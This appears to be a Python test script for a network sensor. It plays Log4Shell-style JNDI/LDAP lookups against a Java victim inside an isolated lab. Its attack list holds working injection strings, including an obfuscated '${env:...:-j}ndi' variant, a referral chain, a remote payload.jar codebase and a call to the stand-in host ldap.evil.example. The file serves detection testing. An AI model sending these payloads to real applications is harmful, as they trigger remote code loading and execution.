#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""ldap.py SENSOR CLASSES: a JDK asks OpenLDAP for what it should not: references, objects and referrals; anonymous, with a
name and password, and through TLS.
"""
import sys

import lab

SERVER = "ldap://%s:1389/" % lab.ATTACKER
REMOTE, LOCAL, PARCEL, ELSEWHERE = ("cn=%s,dc=lab" % name for name in ("remote", "local", "parcel", "elsewhere"))

ATTACKS = [
    ("${jndi:%s%s}" % (SERVER, REMOTE), None,
     [lab.lookup_of(SERVER + REMOTE), lab.searched(REMOTE), lab.reference(), lab.FETCHED]),
    ("${${env:NOBODY_SETS_IT:-j}ndi:${lower:L}dap://%s/%s}" % (lab.ATTACKER, PARCEL), None,
     [lab.lookup_of("ldap://%s/%s" % (lab.ATTACKER, PARCEL)), lab.searched(PARCEL, port=389), lab.serialized("ldap", "java.util.HashMap")]),
    ("lookup %s%s" % (SERVER, LOCAL), "done Reference", [lab.searched(LOCAL), lab.local_reference()]),
    ("lookup %scn=packed,dc=lab" % SERVER, "done payload-has-run",
     [lab.searched("cn=packed,dc=lab"), lab.reference(codebase=lab.WEB + "payload.jar"), lab.FETCHED_JAR]),
    ("lookup %scn=absent,dc=lab" % SERVER, "done Reference",
     [lab.searched("cn=absent,dc=lab"), lab.reference(factory="Absent", classes={"has": ["Absent"]}), {"fetch": "failed", "java_client": True}]),
    # followed, it is asked for a second time
    ("refer %s%s" % (SERVER, ELSEWHERE), "done payload-has-run",
     [lab.searched(ELSEWHERE), {"stage": "referral", "ldap": {"result_code": "referral", "referrals": {"has": [SERVER + REMOTE + "??base"]}}},
      lab.searched(REMOTE), lab.reference(), lab.FETCHED]),
    ("lookup %s%s cn=reader,dc=lab lab-password" % (SERVER, PARCEL), "done {harmless=yes}",
     [lab.searched(PARCEL), lab.serialized("ldap", "java.util.HashMap")]),
    # what a mistyped password looks like as well: policy
    ("lookup %s%s cn=reader,dc=lab wrong" % (SERVER, PARCEL), "failed javax.naming.AuthenticationException",
     [{"stage": "other", "answer": "refused", "ldap": {"result_code": "invalid_credentials"}}]),
    ("lookup %scn=missing,dc=lab" % SERVER, "failed javax.naming.NameNotFoundException",
     [lab.searched("cn=missing,dc=lab"), {"stage": "callback", "answer": "nothing", "ldap": {"result_code": "no_such_object"}}]),
    ("lookup %sa" % SERVER, "failed javax.naming.InvalidNameException",
     [lab.searched("a"), {"stage": "callback", "answer": "nothing", "ldap": {"result_code": "invalid_dn_syntax"}}]),
    # nothing of the directory is in clear; what comes of it is
    ("lookup ldaps://%s:1636/%s" % (lab.ATTACKER, REMOTE), "done payload-has-run", [lab.FETCHED]),
    ("${jndi:ldaps://ldap.evil.example:1636/%s}" % REMOTE, None,
     [lab.lookup_of("ldaps://ldap.evil.example:1636/" + REMOTE), lab.FETCHED]),
]


def main():
    program, classes = sys.argv[1:3]
    lab.enter("curl", "slapd", "slapadd", "openssl", "dnsmasq")
    lab.need_java()
    lab.build_network()
    peers = lab.Peers(classes, names=True)
    sensor = lab.Sensor(program, "workers: 1")
    lab.play(sensor, peers.victim, ATTACKS)
    sensor.stop()


if __name__ == "__main__":
    main()
